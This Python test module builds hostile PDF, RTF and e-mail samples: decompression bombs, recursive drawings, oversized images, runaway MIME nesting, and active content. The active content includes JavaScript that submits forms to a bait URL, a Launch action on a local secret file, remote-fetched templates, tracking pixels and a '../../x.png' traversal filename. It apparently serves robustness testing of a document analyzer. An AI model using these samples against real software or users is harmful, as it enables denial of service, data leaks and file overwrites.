"""Hostile PDF, RTF and e-mail: parts that unfold, refer to themselves, act, or lead elsewhere."""

import base64
import zlib
from collections.abc import Mapping

from tests.analyzers import files
from tests.hostile.case import CORRUPT, LIMIT, OOM, PARTLY, READ, TIMEOUT, Bait, Case, always

LOCKED = "encrypted_document"
EMPTY = "empty_media"
BOUNDED = (READ, PARTLY, CORRUPT, LIMIT, OOM, TIMEOUT, EMPTY)
"""However it ends, it ends in time: what a renderer makes of it is its own."""
WORDS = [(72.0, 700.0, 12.0, "The harbour was quiet that day.")]
FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _pdf(
    objects: Mapping[int, bytes | str], *, resources: str = "", page: str = "", catalog: str = ""
) -> bytes:
    """Return a PDF of one page whose content is object 4; other objects as given."""
    own: dict[int, bytes | str] = {
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        f"/Resources<</Font<</F1 {FONT}>>{resources}>>{page}>>",
        4: stream(b"BT /F1 12 Tf 72 700 Td (The harbour was quiet.) Tj ET"),
        **objects,
    }
    made = {n: body if isinstance(body, bytes) else body.encode() for n, body in own.items()}
    return files._assembled(made, b"")


def stream(data: bytes, entries: str = "") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), entries.encode(), data)


def _nested_flate(times: int, size: int) -> bytes:
    data = bytes(size)
    for _ in range(times):
        data = zlib.compress(data, 9)
    filters = "/FlateDecode" * times
    return _pdf({4: stream(data, f"/Filter[{filters}]")})


def _flate_of_operators() -> bytes:
    """Return a page of two million drawing orders in a few kilobytes."""
    orders = b"0 0 m 595 842 l S " * 2_000_000
    return _pdf({4: stream(zlib.compress(orders, 9), "/Filter/FlateDecode")})


def _picture(entries: str, data: bytes) -> bytes:
    picture = stream(data, f"/Type/XObject/Subtype/Image{entries}")
    return _pdf(
        {4: stream(b"q 500 0 0 500 40 40 cm /I Do Q"), 5: picture},
        resources="/XObject<</I 5 0 R>>",
    )


def _vast_picture() -> bytes:
    data = zlib.compress(bytes(1 << 20), 9)
    return _picture(
        "/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
        data,
    )


def _jbig2() -> bytes:
    """Return a page of JBIG2 that claims four billion by four billion."""
    info = b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\xff\xff\xff\xff" * 2 + bytes(8) + b"\0\0\0"
    return _picture(
        "/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
        info + b"\0\0\0\1\x26\0\1\0\0\0\x40" + b"\xff" * 64,
    )


def _jpx() -> bytes:
    size = b"\xffO\xffQ\0\x29\0\0" + b"\x7f\xff\xff\xff" * 2 + bytes(8) + b"\x7f\xff\xff\xff" * 2
    data = size + bytes(8) + b"\0\1\x07\1\1\xff\x52\0\x0c\0\0\0\1\0\5\4\4\0\0\xff\x90\0\x0a\xff\xd9"
    return _picture("/Width 60000/Height 60000/Filter/JPXDecode", data)


def _form_in_itself() -> bytes:
    """Return a page whose drawing draws itself, twice."""
    form = stream(
        b"/X Do /Y Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
        "/Resources<</XObject<</X 5 0 R/Y 6 0 R>>>>"
    )  # fmt: skip
    return _pdf({4: stream(b"/X Do"), 5: form, 6: form}, resources="/XObject<</X 5 0 R>>")


def _laughing_forms(levels: int = 40) -> bytes:
    """Return drawings of ten drawings of ten drawings..."""
    objects: dict[int, bytes | str] = {4: stream(b"/X Do")}
    for number in range(levels):
        inner = f"/Resources<</XObject<</X {6 + number} 0 R>>>>"
        entries = f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]{inner}"
        objects[5 + number] = stream(b"/X Do " * 10, entries)
    objects[5 + levels] = stream(b"0 0 m 9 9 l S", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return _pdf(objects, resources="/XObject<</X 5 0 R>>")


def _glyphs() -> bytes:
    """Return a font whose letter writes itself many times over."""
    letter = stream(b"1000 0 d0 BT /T 1 Tf (" + b"a" * 5_000 + b") Tj ET")
    font = (
        "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 97"
        "/LastChar 97/Widths[1000]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>"
        "/Resources<</Font<</T 5 0 R>>>>>>"
    )
    text = b"BT /T 12 Tf 72 700 Td (" + b"a" * 5_000 + b") Tj ET"
    return _pdf({4: stream(text), 5: font, 6: letter}, resources="/Font<</T 5 0 R>>")


def _broken_font() -> bytes:
    """Return a font program of noise that claims to be TrueType with 65,535 glyphs."""
    program = b"\0\1\0\0\xff\xff" + b"\xff" * 30 + b"glyf" + b"\xff" * 4_000
    font = "<</Type/Font/Subtype/TrueType/BaseFont/Z/FontDescriptor 6 0 R>>"
    descriptor = "<</Type/FontDescriptor/FontName/Z/Flags 4/FontFile2 7 0 R>>"
    return _pdf(
        {4: stream(b"BT /T 12 Tf 72 700 Td (abc) Tj ET"), 5: font, 6: descriptor,
         7: stream(program)},
        resources="/Font<</T 5 0 R>>",
    )  # fmt: skip


def _ring() -> bytes:
    return _pdf({2: "<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 3/Parent 2 0 R>>"})


def _million_pages() -> bytes:
    return _pdf({2: f"<</Type/Pages/Kids[{'3 0 R ' * 50_000}]/Count 1000000>>"})


def _without_table() -> bytes:
    data = files.pdf([WORDS])
    return data[: data.index(b"xref")] + b"xref\n0 999999999\nnonsense\ntrailer<</Root 1 0 R>>"


def _deep_array() -> bytes:
    return _pdf({5: "[" * 200_000}, page="/Annots 5 0 R")


def _active(bait: Bait) -> bytes:
    """Return a PDF that would run, fetch, open, send and start things."""
    script = f"app.launchURL('{bait.url}/js'); this.submitForm('{bait.url}/form');"
    catalog = (
        "/OpenAction 5 0 R/Names<</JavaScript<</Names[(x) 5 0 R]>>"
        "/EmbeddedFiles<</Names[(a.exe) 7 0 R]>>>>/AcroForm<</XFA 8 0 R/Fields[]>>"
        f"/URI<</Base({bait.url})>>"
    )
    annotations = (
        f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI({bait.url}/uri)>>>>"
        f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F({bait.secret})>>>>]"
        f"/AA<</O<</S/GoToR/F({bait.url}/remote.pdf)>>>>"
    )
    xfa = f'<xdp><template><image href="{bait.url}/xfa"/></template></xdp>'.encode()
    return _pdf(
        {5: f"<</S/JavaScript/JS({script})>>", 6: stream(b"MZ" * 50, "/Type/EmbeddedFile"),
         7: "<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", 8: stream(xfa)},
        page=annotations,
        catalog=catalog,
    )  # fmt: skip


def _external_stream(bait: Bait) -> bytes:
    """Return a page whose content is said to be in a file of this machine, and in another."""
    return _pdf({4: f"<</Length 0/F({bait.secret})/FFilter/FlateDecode>>stream\n\nendstream"})


# --- RTF ------------------------------------------------------------------------------------------


def _rtf_deep() -> bytes:
    return b"{\\rtf1 " + b"{\\b " * 200_000 + b"words" + b"}" * 200_000 + b"}"


def _rtf_lying() -> bytes:
    return b"{\\rtf1\\bin2147483647 words\\uc99999999\\u-99999999 more\\'zz{\\pict\\bin-5 x}}"


def _rtf_linked(bait: Bait) -> bytes:
    return (
        rf'{{\rtf1 {{\field{{\*\fldinst INCLUDEPICTURE "{bait.url}/rtf.png" \\d}}'
        rf"{{\fldrslt words}}}}{{\*\template {bait.url}/x.dot}}"
        r"{\object\objautlink\objupdate{\*\objdata 0105}}The crane works.}"
    ).encode()


# --- e-mail ---------------------------------------------------------------------------------------

HEAD = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"


def _quoted_printable() -> bytes:
    """Return a message whose lines are all joined to one, by the million."""
    head = HEAD + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    return head + b"=C3=BC=\r\n" * 200_000


def _messages_in_messages(depth: int) -> bytes:
    inner = HEAD + b"\r\nwords\r\n"
    for _ in range(depth):
        inner = HEAD + b"Content-Type: message/rfc822\r\n\r\n" + inner
    return inner


def _many_parts(count: int) -> bytes:
    head = HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    return head + b"--b\r\nContent-Type: image/png\r\n\r\nx\r\n" * count + b"--b--\r\n"


def _boundaries(depth: int) -> bytes:
    """Return parts in parts, each with a boundary that begins the next."""
    data = HEAD
    for n in range(depth):
        edge = b"b" * (n + 1)
        data += b"Content-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\n" % (edge, edge)
    return data + b"\r\nwords"


def _packed_picture() -> bytes:
    picture = base64.encodebytes(files.png(12_000, 12_000))
    return (
        HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nThe crane works.\r\n"
        b"--b\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n"
        b"Content-Disposition: attachment; filename=../../x.png\r\n\r\n" + picture + b"--b--\r\n"
    )


def _mail_elsewhere(bait: Bait) -> bytes:
    page = f'<p>The crane works.</p><img src="{bait.url}/pixel.gif"><link href="{bait.url}/c.css">'
    return (
        HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/html\r\n\r\n" + page.encode() + b"\r\n--b\r\n"
        b"Content-Type: message/external-body; access-type=URL; URL="
        + f'"{bait.url}/body"'.encode()
        + b"\r\n\r\n\r\n--b--\r\n"
    )


def _headers() -> bytes:
    return HEAD + b"".join(b"X-%d: %s\r\n" % (n, b"(" * 900) for n in range(5_000)) + b"\r\nwords"


CASES = (
    Case("M25", "Flate in Flate in Flate, 32 MiB", "pdf",
         always(lambda: _nested_flate(3, 32 << 20)), BOUNDED),
    Case("M25", "two million orders to draw", "pdf", always(_flate_of_operators), BOUNDED),
    Case("M25", "a picture of ten billion pixels", "pdf", always(_vast_picture), BOUNDED),
    Case("M25", "a page of JBIG2 without bounds", "pdf", always(_jbig2), BOUNDED),
    Case("M25", "a JPEG 2000 of two billion by two billion", "pdf", always(_jpx), BOUNDED),
    Case("M26", "a password", "pdf", always(lambda: files.pdf([WORDS], password="secret")),
         (LOCKED,)),
    Case("M27", "pages in a ring", "pdf", always(_ring), BOUNDED),
    Case("M27", "a million pages", "pdf", always(_million_pages), BOUNDED),
    Case("M27", "a broken table", "pdf", always(_without_table), (READ, CORRUPT)),
    Case("M27", "arrays in arrays", "pdf", always(_deep_array), BOUNDED),
    Case("M27", "scripts, forms, files and links", "pdf", _active, (READ,)),
    Case("M27", "content from elsewhere", "pdf", _external_stream, (READ, CORRUPT, EMPTY)),
    Case("M34", "a drawing that draws itself", "pdf", always(_form_in_itself), BOUNDED),
    Case("M34", "drawings of ten drawings, forty times", "pdf", always(_laughing_forms), BOUNDED),
    Case("M34", "a letter that writes itself", "pdf", always(_glyphs), BOUNDED),
    Case("M34", "a font of noise", "pdf", always(_broken_font), BOUNDED),
    Case("M27", "200000 groups in groups", "rtf", always(_rtf_deep), BOUNDED),
    Case("M27", "lengths that lie", "rtf", always(_rtf_lying), BOUNDED),
    Case("M28", "pictures and templates from elsewhere", "rtf", _rtf_linked, (READ,)),
    Case("M30", "200000 joined lines", "eml", always(_quoted_printable), BOUNDED),
    Case("M30", "1000 messages in messages", "eml", always(lambda: _messages_in_messages(1_000)),
         (LIMIT, READ, CORRUPT)),
    Case("M30", "100000 parts", "eml", always(lambda: _many_parts(100_000)), (LIMIT,), "entries"),
    Case("M30", "200 parts in parts", "eml", always(lambda: _boundaries(200)),
         (READ, LIMIT, CORRUPT, EMPTY)),
    Case("M30", "5000 headers of brackets", "eml", always(_headers), (READ, CORRUPT)),
    Case("M1", "144 million pixels attached", "eml", always(_packed_picture), (READ, PARTLY)),
    Case("M15", "bodies and pictures from elsewhere", "eml", _mail_elsewhere, (READ,)),
)  # fmt: skip
